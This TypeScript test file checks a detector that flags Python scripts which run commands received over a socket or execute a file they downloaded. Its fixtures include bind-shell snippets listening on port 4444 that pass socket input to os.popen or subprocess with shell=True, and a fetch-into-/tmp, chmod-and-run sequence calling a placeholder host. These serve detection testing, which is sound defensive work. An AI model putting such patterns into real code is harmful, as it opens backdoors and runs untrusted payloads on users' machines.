// What a Python script takes from a socket and runs as a command, or fetches and starts, however it gets there; and what only
// looks like it.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readScript } from '../../../src/file/formats/script/read.ts'

const HEAD = `import os, subprocess, socket
s = socket.socket(); s.bind(("", 4444)); s.listen(1)
c, a = s.accept()
`
const obeys = (body: string): boolean =>
  readScript(HEAD + body, 'python').facts.traits.some(({ id }) => id === 'runs_commands_from_socket')

for (const [what, body] of Object.entries({
  'through a function of its own':
    'def run(line):\n  return os.popen("/bin/sh -c " + line).read()\nwhile True:\n  text = c.recv(1024).decode()\n  c.send(run(text))\n',
  'letter by letter':
    'def run(line):\n  return os.popen(line).read()\ntext = c.recv(SIZE)\nline = ""\nfor i in range(len(text) - 1):\n  line += text[i]\nc.send(run(line))\n',
  'kept by an object':
    'class A:\n  def take(self):\n    self.line = c.recv(99)\n  def go(self):\n    subprocess.Popen(self.line, shell=True)\n',
}))
  test(`a command from a socket is run: ${what}`, () => assert.ok(obeys(body)))

const starts = (body: string): boolean =>
  readScript(body, 'python').facts.traits.some(({ id }) => id === 'runs_what_it_fetched')

test('what was fetched into a folder is started from that folder, and another file there is not it', () => {
  const fetched =
    'from os import system\nfrom requests import get\nopen("/tmp/node", "wb").write(get("https://a.example/n").content)\n'
  assert.ok(starts(`${fetched}system("cd /tmp && chmod +x node && ./node")\n`))
  assert.ok(!starts(`${fetched}system("cd /tmp && ./check")\n`))
  assert.ok(!starts(`${fetched}system("cd /opt && ./node")\n`))
})

for (const [what, body] of Object.entries({
  'a name within a command of its own':
    'def state(unit):\n  return subprocess.check_output("systemctl status " + unit, shell=True)\nc.send(state(c.recv(64).decode()))\n',
  'a job from another process of the same program':
    'def work(conn):\n  job = conn.recv()\n  subprocess.run(job, shell=True)\n',
  'a program with arguments, without a shell': 'def show(name):\n  subprocess.run(["cat", name])\nshow(c.recv(64))\n',
  'it is kept': 'data = c.recv(1024)\nopen("log", "wb").write(data)\nos.system("sync")\n',
}))
  test(`nothing from a socket is a command: ${what}`, () => assert.ok(!obeys(body)))
